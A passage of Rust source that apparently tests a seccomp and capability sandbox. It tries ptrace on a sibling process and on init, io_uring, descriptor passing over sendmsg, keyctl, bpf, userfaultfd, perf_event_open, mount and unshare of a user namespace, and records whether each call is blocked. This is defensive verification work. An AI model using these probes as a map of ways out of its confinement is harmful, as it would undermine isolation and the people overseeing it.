    let ret = unsafe { syscall(SYS_PTRACE, PTRACE_SEIZE, pid, 0i64, 0i64) };
    syscall_result(ret)
}

/// Each call is shaped to succeed for an unprivileged process on this kernel when
/// neither the seccomp filter nor the dropped capabilities stand in the way.
fn forbidden() -> Vec<String> {
    let mut out = Vec::new();
    let limits = std::fs::read_to_string("/proc/self/limits").unwrap_or_default();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            format!("{},{}", f.get(4).unwrap_or(&"?"), f.get(5).unwrap_or(&"?"))
        })
        .unwrap_or_else(|| "?".into());
    out.push(format!("core={core}"));
    let oom = std::fs::read_to_string("/proc/self/oom_score_adj").unwrap_or_default();
    out.push(format!("oom_score_adj={}", oom.trim()));

    // ptrace of a sibling: a sleeper, then a second child of this program that attaches to it.
    let sibling = std::process::Command::new("/bin/sleep")
        .arg("30")
        .stdin(std::process::Stdio::null())
        .spawn();
    let mut inspected = Vec::new();
    let ptrace_sibling = match sibling {
        Ok(mut sleeper) => {
            let pid = sleeper.id() as i64;
            let attacker = std::process::Command::new("/proc/self/exe")
                .args(["ptrace-attach", &pid.to_string()])
                .stdin(std::process::Stdio::null())
                .output();
            // The other ways into a sibling, while it lives.
            let inspect = inspect_sibling(pid);
            let _ = sleeper.kill();
            let _ = sleeper.wait();
            inspected = inspect;
            match attacker {
                Ok(o) => {
                    let text = String::from_utf8_lossy(&o.stdout).into_owned();
                    let found = text
                        .split("ptrace=")
                        .nth(1)
                        .and_then(|r| r.split('"').next())
                        .unwrap_or("no-answer")
                        .to_owned();
                    format!("ptrace_sibling={found}")
                }
                Err(e) => format!("ptrace_sibling=spawn-failed({e})"),
            }
        }
        Err(e) => format!("ptrace_sibling=spawn-failed({e})"),
    };
    out.push(ptrace_sibling);
    out.extend(inspected);
    out.push(format!("ptrace_init={}", ptrace_attach(1)));

    // io_uring_setup(1 entry): a ring would run sendmsg, fallocate … behind seccomp's back.
    let mut params = [0u8; 120];
    // SAFETY: `params` is a live, zeroed io_uring_params.
    let ret = unsafe { syscall(SYS_IO_URING_SETUP, 1i64, params.as_mut_ptr()) };
    out.push(format!("io_uring_setup={}", syscall_result(ret)));

    // sendmsg of one byte and a descriptor (SCM_RIGHTS) on a fresh socket pair.
    out.push(format!(
        "sendmsg={}",
        match std::os::unix::net::UnixStream::pair() {
            Ok((tx, _rx)) => {
                use std::os::fd::AsRawFd;
                match quota::send_fd(tx.as_raw_fd(), 0) {
                    Ok(()) => "allowed".to_owned(),
                    Err(e) => format!("errno({})", e.raw_os_error().unwrap_or(-1)),
                }
            }
            Err(e) => format!("socketpair-failed({e})"),
        }
    ));

    // keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create=1).
    // SAFETY: integer arguments only.
    let ret = unsafe { syscall(SYS_KEYCTL, 0i64, -3i64, 1i64) };
    out.push(format!("keyctl={}", syscall_result(ret)));

    // bpf(BPF_MAP_CREATE) of a one-entry array: map_type 2, key 4, value 4, max_entries 1.
    let mut attr = [0u32; 32];
    attr[..4].copy_from_slice(&[2, 4, 4, 1]);
    // SAFETY: `attr` is a live, zero-padded buffer of the size passed.
    let ret = unsafe { syscall(SYS_BPF, 0i64, attr.as_mut_ptr(), 128i64) };
    out.push(format!("bpf={}", syscall_result(ret)));

    // userfaultfd(O_CLOEXEC | UFFD_USER_MODE_ONLY): user-mode-only faults need no privilege.
    // SAFETY: integer arguments only.
    let ret = unsafe { syscall(SYS_USERFAULTFD, 0o2000000i64 | 1) };
    out.push(format!("userfaultfd={}", syscall_result(ret)));

    // perf_event_open of this process's task clock, user space only (allowed at
    // perf_event_paranoid 2 without privilege).
    let mut pattr = [0u8; 128];
    pattr[0..4].copy_from_slice(&1u32.to_ne_bytes()); // type: PERF_TYPE_SOFTWARE
    pattr[4..8].copy_from_slice(&128u32.to_ne_bytes()); // size
    pattr[8..16].copy_from_slice(&1u64.to_ne_bytes()); // config: PERF_COUNT_SW_TASK_CLOCK
    // flags: disabled (bit 0), exclude_kernel (bit 5), exclude_hv (bit 6)
    pattr[40..48].copy_from_slice(&((1u64 << 0) | (1 << 5) | (1 << 6)).to_ne_bytes());
    // SAFETY: `pattr` is a live buffer of the size it declares.
    let ret = unsafe { syscall(SYS_PERF_EVENT_OPEN, pattr.as_mut_ptr(), 0i64, -1i64, -1i64, 0i64) };
    out.push(format!("perf_event_open={}", syscall_result(ret)));

    // mount("none", "/tmp", "tmpfs", 0, NULL).
    let (none, tmp, tmpfs) = (b"none\0", b"/tmp\0", b"tmpfs\0");
    // SAFETY: NUL-terminated static strings and a null data pointer.
    let ret = unsafe {
        syscall(
            SYS_MOUNT,
            none.as_ptr(),
            tmp.as_ptr(),
            tmpfs.as_ptr(),
            0i64,
            std::ptr::null::<u8>(),
        )
    };
    out.push(format!("mount={}", syscall_result(ret)));

    // unshare(CLONE_NEWUSER) last: if it were allowed, this process would change namespace.
    // SAFETY: integer arguments only.
    let ret = unsafe { syscall(SYS_UNSHARE, 0x1000_0000i64) };
    out.push(format!("unshare_newuser={}", syscall_result(ret)));
    out
}
